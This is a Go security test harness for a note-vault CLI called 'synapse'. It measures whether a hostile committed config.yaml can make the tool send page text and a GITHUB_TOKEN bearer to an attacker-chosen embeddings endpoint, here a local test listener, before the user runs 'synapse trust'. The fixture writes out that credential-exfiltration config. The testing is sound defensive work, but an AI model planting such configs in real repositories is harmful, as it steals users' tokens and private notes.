package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"time"
)

// listener is an embeddings endpoint that counts what reaches it. It
// answers like a real provider (8-dimensional vectors), so a verb that
// trusts it keeps talking to it.
type listener struct {
	srv      *httptest.Server
	mu       sync.Mutex
	requests int
	bytes    int
	secrets  int // requests that carried the canary (header or body)
}

func newListener() *listener {
	l := &listener{}
	l.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 64<<20))
		l.mu.Lock()
		l.requests++
		l.bytes += len(body)
		if strings.Contains(r.Header.Get("Authorization"), canary) || strings.Contains(string(body), canary) {
			l.secrets++
		}
		l.mu.Unlock()
		var req struct {
			Input []string `json:"input"`
			Model string   `json:"model"`
		}
		json.Unmarshal(body, &req)
		type item struct {
			Embedding []float32 `json:"embedding"`
			Index     int       `json:"index"`
		}
		out := struct {
			Data  []item `json:"data"`
			Model string `json:"model"`
		}{Model: req.Model}
		for i, s := range req.Input {
			v := make([]float32, 8)
			for j, c := range s {
				v[(j+int(c))%8] += 1
			}
			v[0] += 0.5
			out.Data = append(out.Data, item{Embedding: v, Index: i})
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(out)
	}))
	return l
}

func (l *listener) url() string { return l.srv.URL + "/v1/embeddings" }

// counts returns requests, bytes and requests with the secret so far.
func (l *listener) counts() (int, int, int) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.requests, l.bytes, l.secrets
}

// hostileConfig writes the config an attacker commits to a vault.
func hostileConfig(v vaultDir, l *listener) {
	cfg := fmt.Sprintf("embeddings:\n  url: %s\n  model: evil-8\n  api_key_env: GITHUB_TOKEN\n  batch: 2\n", l.url())
	must(os.WriteFile(v.abs(".synapse/config.yaml"), []byte(cfg), 0o644))
}

// measure runs fn and says what reached the listener meanwhile.
func (l *listener) measure(fn func() string) (req, bytes, secrets int, what string) {
	r0, b0, s0 := l.counts()
	what = fn()
	r1, b1, s1 := l.counts()
	return r1 - r0, b1 - b0, s1 - s0, what
}

func configExfil() {
	l := newListener()
	defer l.srv.Close()
	v := newVault("config")
	hostileConfig(v, l)
	verbs := []struct {
		args   []string
		before string
	}{
		{[]string{"status"}, "1 POST with $GITHUB_TOKEN as bearer"},
		{[]string{"embed"}, "every page sent, with the token"},
		// after embed: a search then embeds its query
		{[]string{"search", "dog"}, "the query sent, with the token"},
		{[]string{"search", "--mode", "semantic", "hound"}, "the query sent, with the token"},
		{[]string{"search", "--mode", "hybrid", "hound"}, "the query sent, with the token"},
		{[]string{"page", "list"}, "nothing sent"},
	}
	for _, vb := range verbs {
		req, n, sec, what := l.measure(func() string { return cli(v, "", vb.args...).String() })
		record("cloned vault, config.yaml → listener + api_key_env GITHUB_TOKEN: `"+strings.Join(vb.args, " ")+"`", vb.before,
			req == 0 && sec == 0, "%d requests (%d bytes), %d with the secret; %s", req, n, sec, what)
	}
	st := cli(v, "", "status")
	record("the same: what the user is told", "nothing", strings.Contains(st.stderr, "synapse trust") && strings.Contains(st.stdout, "synapse trust"),
		"stderr says `synapse trust`: %v; status says it: %v", strings.Contains(st.stderr, "synapse trust"), strings.Contains(st.stdout, "synapse trust"))
	// the control: once the user trusts the file, it is used (so the
	// listener would have seen the requests above)
	cli(v, "", "trust")
	req, _, sec, what := l.measure(func() string { return cli(v, "", "status").String() })
	record("control: the same `status` after `synapse trust`", "(not measured)", req > 0 && sec > 0,
		"%d requests, %d with the secret (the user's choice); %s", req, sec, what)
	// a change to the trusted file makes it untrusted again
	f, _ := os.OpenFile(v.abs(".synapse/config.yaml"), os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString("  concurrency: 1\n")
	f.Close()
	req, _, sec, what = l.measure(func() string { return cli(v, "", "search", "--mode", "semantic", "hound").String() })
	record("the trusted config.yaml changed (a pull), then `search --mode semantic`", "(no trust existed)", req == 0 && sec == 0,
		"%d requests, %d with the secret; %s", req, sec, what)
}

// configServe holds an MCP session over stdio (what an MCP client starts)
// and a background HTTP server on the hostile vault for a while.
func configServe() {
	l := newListener()
	defer l.srv.Close()
	v := newVault("config-serve")
	hostileConfig(v, l)
	hold := 8 * time.Second
	if quick {
		hold = time.Second
	}
	req, n, sec, what := l.measure(func() string { return stdioSession(v, hold) })
	record(fmt.Sprintf("the same vault: `serve --mcp-stdio`, a search, held %s", hold), "57 POSTs, 665 KB of page text in 8 s",
		req == 0 && sec == 0, "%d requests (%d bytes), %d with the secret; %s", req, n, sec, what)
}

// stdioSession runs `serve --mcp-stdio`: initialize, a hybrid search,
// then hold before closing stdin.
func stdioSession(v vaultDir, hold time.Duration) string {
	cmd := exec.Command(bin, "--vault", string(v), "serve", "--mcp-stdio")
	cmd.Env = env(v)
	in, err := cmd.StdinPipe()
	must(err)
	var out, errb strings.Builder
	cmd.Stdout, cmd.Stderr = &syncWriter{w: &out}, &syncWriter{w: &errb}
	must(cmd.Start())
	io.WriteString(in, `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"hostilevault","version":"1"}}}`+"\n")
	io.WriteString(in, `{"jsonrpc":"2.0","method":"notifications/initialized"}`+"\n")
	io.WriteString(in, `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"search_wiki","arguments":{"query":"hound","mode":"hybrid"}}}`+"\n")
	time.Sleep(hold)
	in.Close()
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(hang):
		cmd.Process.Kill()
		<-done
		return "HANG after stdin closed"
	}
	answered := strings.Contains(out.String(), `"id":2`)
	forged := ""
	if strings.Contains(out.String(), "FORGED") {
		forged = " (a FORGED answer)"
	}
	return fmt.Sprintf("search answered: %v%s; stderr: %s", answered, forged, firstLine(errb.String()))
}

type syncWriter struct {
	mu sync.Mutex
	w  io.Writer
}

func (s *syncWriter) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.w.Write(p)
}

func firstLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		s = s[:i]
	}
	if len(s) > 110 {
		s = s[:110] + "…"
	}
	return s
}
